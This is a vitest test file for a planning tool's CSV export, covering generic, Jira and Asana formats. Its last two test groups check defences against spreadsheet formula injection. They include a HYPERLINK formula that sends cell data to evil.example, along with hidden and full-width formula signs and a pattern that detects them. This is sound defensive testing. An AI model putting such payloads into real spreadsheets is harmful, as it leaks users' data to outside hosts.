import { describe, expect, it } from 'vitest'
import { buildPlan, planProject, type Plan } from '../../../src/domain/plan'
import { csvField, planToCsv, toCsv } from '../../../src/io/csv'
import { loadProject } from '../../helpers/fixtures'
import { sterileTwoPhase } from '../../domain/plan/planFixtures'
import { parseCsv, records } from './parseCsv'

const plan = (): Plan => {
  const { project, diffs } = sterileTwoPhase()
  return buildPlan(project, project.states, diffs)
}

describe('CSV fields', () => {
  it('quotes per RFC 4180 only where needed and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a, b')).toBe('"a, b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
  })

  it('neutralises text a spreadsheet would evaluate, and leaves computed numbers as numbers', () => {
    expect(csvField('=1+1')).toBe("'=1+1")
    expect(csvField('+1')).toBe("'+1")
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvField('\tx')).toBe("'\tx")
    expect(csvField('\rx')).toBe('"\'\rx"')
    expect(csvField(-2)).toBe('-2')
    expect(csvField(2.5)).toBe('2.5')
  })

  it('writes a BOM, a header and CRLF after every record', () => {
    const text = toCsv(['A', 'B'], [['x', 1]])
    expect(text).toBe('\uFEFFA,B\r\nx,1\r\n')
  })
})

describe('the plan as a generic CSV', () => {
  it('given the two-phase plan, when exported and parsed back, then each task is one row with its phase, role, duration and links', () => {
    const p = plan()
    const parsed = parseCsv(planToCsv(p, { start: '2026-11-02' }))
    expect(parsed.bom).toBe(true)
    expect(parsed.rows[0]).toEqual([
      'ID',
      'WBS',
      'Phase',
      'Task',
      'Type',
      'Role',
      'Description',
      'Duration (hours)',
      'Start',
      'Finish',
      'Milestone',
      'Done',
      'Predecessors',
      'Data item',
      'Systems',
      'Source diff items',
    ])
    const rows = records(parsed.rows)
    expect(rows.map((r) => r.ID![0])).toEqual(p.tasks.map((t) => t.id))
    const iface = rows.find((r) => r.ID![0] === 'interface:st_fut:d_tray')!
    expect(iface.Phase).toEqual(['Phase 2: Future state'])
    expect(iface.Task).toEqual(['Interface: Tray ID between Traceability system and EHR'])
    expect(iface.Type).toEqual(['Interface'])
    expect(iface['Duration (hours)']).toEqual(['40'])
    expect(iface.Start).toEqual(['2026-11-03 08:00:00'])
    expect(iface.Finish).toEqual(['2026-11-09 17:00:00'])
    expect(iface.Predecessors).toEqual(['go-live:st_t1'])
    expect(iface.Systems).toEqual(['Traceability system; EHR'])
    expect(iface['Source diff items']).toEqual(['step-changed:t_chart:f_confirm duplicate-resolved:d_tray'])
    const training = rows.find((r) => r.ID![0] === 'training:st_fut:r_spd')!
    expect(training.Role).toEqual(['SPD technician'])
    expect(training['Duration (hours)']).toEqual(['4.5'])
    // Multi-line descriptions survive the round trip.
    expect(training.Description![0]!.split('\n')).toEqual([
      p.tasks.find((t) => t.id === 'training:st_fut:r_spd')!.description,
      '• Takes over from SPD supervisor: Release load',
      '• Changed: Assemble and pack tray (systems, what it documents)',
      '• Changed: Load steriliser and write load log, now Load steriliser and scan load (systems, what it documents, touch time)',
      '• No longer done: Enter load in traceability system',
      '• Handoff that ends: Enter load in traceability system (SPD technician) to Release load (SPD supervisor)',
    ])
    const goLive = rows.find((r) => r.ID![0] === 'go-live:st_fut')!
    expect(goLive.Milestone).toEqual(['yes'])
    expect(goLive['Duration (hours)']).toEqual(['0'])
  })

  it('without a start date, leaves the dates out', () => {
    expect(parseCsv(planToCsv(plan())).rows[0]).not.toContain('Start')
  })
})

describe('the Jira preset', () => {
  it('lists every phase as an epic first, and links each task to its epic through the Parent column', () => {
    const p = plan()
    const parsed = parseCsv(planToCsv(p, { preset: 'jira' }))
    const header = parsed.rows[0]!
    expect(header.slice(0, 5)).toEqual(['Issue ID', 'Issue Type', 'Summary', 'Parent', 'Description'])
    expect(header.filter((h) => h === 'Labels').length).toBeGreaterThanOrEqual(2)
    const rows = records(parsed.rows)
    expect(rows.length).toBe(p.phases.length + p.tasks.length)
    const types = rows.map((r) => r['Issue Type']![0])
    expect(types.slice(0, 2)).toEqual(['Epic', 'Epic'])
    expect(types.slice(2).every((t) => t === 'Task')).toBe(true)
    expect(rows.slice(0, 2).map((r) => r.Summary![0])).toEqual(['Phase 1: Barcode scanning alongside the paper log', 'Phase 2: Future state'])

    const position = new Map(rows.map((r, i) => [r['Issue ID']![0], i]))
    rows.forEach((r, i) => {
      const parent = r.Parent![0]!
      if (r['Issue Type']![0] === 'Epic') return expect(parent).toBe('')
      // The parent is an epic in a row above.
      expect(rows[position.get(parent)!]!['Issue Type']).toEqual(['Epic'])
      expect(position.get(parent)!).toBeLessThan(i)
      for (const blocker of r['Blocked by']!.filter(Boolean)) expect(position.get(blocker)!).toBeLessThan(i)
    })
    const iface = rows.find((r) => r.Summary![0] === 'Interface: Tray ID between Traceability system and EHR')!
    expect(iface.Parent).toEqual(['2'])
    expect(iface.Labels!.filter(Boolean)).toEqual(['flowstate', 'interface', 'phase-2'])
    expect(iface['Original Estimate']).toEqual([String(40 * 3600)])
    expect(iface.Description![0]).toContain('flowstate: interface:st_fut:d_tray')
    const training = rows.find((r) => r.Summary![0] === 'Train SPD technician: Future state')!
    expect(training.Labels!.filter(Boolean)).toEqual(['flowstate', 'training', 'phase-2', 'role-spd-technician'])
    for (const r of rows) for (const label of r.Labels!) expect(label).not.toMatch(/\s/)
  })

  it('cuts a summary to Jira\'s 255 characters and keeps the whole name in the description', () => {
    const p = plan()
    const long = { ...p, tasks: p.tasks.map((t, i) => (i === 0 ? { ...t, name: `Set up: ${'x'.repeat(300)}` } : t)) }
    const row = records(parseCsv(planToCsv(long, { preset: 'jira' })).rows)[2]!
    expect([...row.Summary![0]!]).toHaveLength(255)
    expect(row.Summary![0]!.endsWith('…')).toBe(true)
    expect(row.Description![0]!.startsWith(`Set up: ${'x'.repeat(300)}\n`)).toBe(true)
  })
})

describe('the Asana preset', () => {
  it('writes Name, Description, Section/Column, dates as MM/DD/YYYY and dependencies by the names of tasks above', () => {
    const p = plan()
    const parsed = parseCsv(planToCsv(p, { preset: 'asana', start: '2026-11-02' }))
    expect(parsed.rows[0]).toEqual(['Name', 'Description', 'Section/Column', 'Assignee', 'Start Date', 'Due Date', 'Blocked By (Dependencies)', 'Role', 'Type'])
    const rows = records(parsed.rows)
    expect(rows.map((r) => r.Name![0])).toEqual(p.tasks.map((t) => t.name))
    expect(new Set(rows.map((r) => r['Section/Column']![0]))).toEqual(new Set(['Phase 1: Barcode scanning alongside the paper log', 'Phase 2: Future state']))
    const goLive = rows.find((r) => r.Name![0] === 'Go-live: Future state')!
    expect(goLive['Due Date']).toEqual(['11/16/2026'])
    const names = rows.map((r) => r.Name![0]!)
    rows.forEach((r, i) => {
      const deps = r['Blocked By (Dependencies)']![0]!
      for (const d of deps ? deps.split(', ') : []) expect(names.indexOf(d), `${names[i]} after ${d}`).toBeGreaterThanOrEqual(0)
    })
    expect(goLive['Blocked By (Dependencies)']![0]).toBe(
      'Interface: Tray ID between Traceability system and EHR, Train OR nurse: Future state, Train SPD supervisor: Future state, ' +
        'Train SPD technician: Future state, End interim double documentation: Load contents, ' +
        'Sign-off: SPD technician on Future state, Sign-off: SPD supervisor on Future state, Sign-off: OR nurse on Future state, ' +
        'Go-live support: Barcode scanning alongside the paper log',
    )
  })
})

describe('formula injection', () => {
  it('given roles, systems, data items, states and steps named like formulas, then no cell of any preset starts with = + - @ tab or CR', () => {
    const project = loadProject('plan/plan.hostile-labels.flowstate.json')
    const result = planProject(project, { from: 'st_cur', to: 'st_fut' })
    if (!result.ok) throw new Error(result.error)
    let hostileCells = 0
    for (const preset of ['generic', 'jira', 'asana'] as const) {
      const { rows } = parseCsv(planToCsv(result.plan, { preset, start: '2026-11-02' }))
      for (const cell of rows.flat()) {
        expect(cell, `${preset}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
        if (/^'[=+\-@\t\r]/.test(cell)) hostileCells++
      }
    }
    expect(hostileCells).toBeGreaterThan(10)
    const generic = records(parseCsv(planToCsv(result.plan)).rows)
    expect(generic.map((r) => r.Role![0])).toContain(`'=HYPERLINK("http://evil.example/?q="&A1,"Open")`)
    expect(generic.map((r) => r.Role![0])).toContain("'@SUM(A1:A9)")
    expect(generic.map((r) => r.Role![0])).toContain("'-2+3")
    expect(generic.map((r) => r.Phase![0])).toContain("Phase 1: -Barcode phase")
    expect(generic.map((r) => r['Data item']![0])).toContain("'=1+1 Tray ID")
    expect(generic.map((r) => r.Systems![0])).toContain("'\tTraceability; \rEHR")
  })
})

describe('formula injection hidden behind spaces, line breaks and full-width signs', () => {
  // Spreadsheets trim leading spaces and line breaks before they look for a formula, and Excel in
  // East Asian locales reads ＝ ＋ － ＠ as = + - @.
  const evaluated = /^[\s\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/

  it('given names that hide a sign, then every preset writes them as text, with a leading quote', () => {
    const project = loadProject('plan/plan.hostile-hidden-signs.flowstate.json')
    const result = planProject(project, { from: 'st_cur', to: 'st_fut' })
    if (!result.ok) throw new Error(result.error)
    for (const preset of ['generic', 'jira', 'asana'] as const) {
      let neutralised = 0
      const { rows } = parseCsv(planToCsv(result.plan, { preset, start: '2026-11-02' }))
      for (const cell of rows.flat()) {
        expect(cell, `${preset}: ${JSON.stringify(cell)}`).not.toMatch(evaluated)
        if (/^'/.test(cell) && evaluated.test(cell.slice(1))) neutralised++
      }
      expect(neutralised, preset).toBeGreaterThan(0)
    }
    const generic = records(parseCsv(planToCsv(result.plan)).rows)
    expect(generic.map((r) => r.Role![0])).toContain(`'   =HYPERLINK("http://evil.example/?q="&A1,"Open")`)
    expect(generic.map((r) => r.Role![0])).toContain("'\n@SUM(A1:A9)")
    expect(generic.map((r) => r.Role![0])).toContain("'\uff1d1+1 OR nurse")
    expect(generic.map((r) => r['Data item']![0])).toContain("'\uff0d2+3 Tray ID")
  })

  it('leaves text that only contains a sign later on as it is', () => {
    expect(csvField('Scan tray = done')).toBe('Scan tray = done')
    expect(csvField('Tray\nthen +1')).toBe('"Tray\nthen +1"')
    expect(csvField(' \uff1dx')).toBe("' \uff1dx")
  })
})
